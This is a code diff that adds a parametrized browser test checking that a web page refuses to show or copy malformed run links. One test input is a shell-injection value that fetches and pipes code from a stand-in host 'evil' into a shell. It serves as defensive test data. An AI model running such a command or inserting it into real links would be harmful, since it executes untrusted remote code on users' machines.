@@ -222,6 +222,14 @@ def test_the_line_to_join_is_copied(opened: Open, server: PageServer) -> None:
     assert page.evaluate("navigator.clipboard.readText()") == page.inner_text("#join-line")
 
 
+@pytest.mark.parametrize("run_id", ["x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"])
+def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun, run_id: str) -> None:
+    page = opened(server.url)
+    server.publish({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"})
+    expect(page.locator("#join-line")).to_have_text("The link of this run is not known.")
+    assert page.locator("#copy").is_disabled()
+
+
 def test_a_screen_reader_finds_landmarks_captions_and_names(opened: Open, server: PageServer) -> None:
     page = opened(server.url)
     nameless = """() => [...document.querySelectorAll(
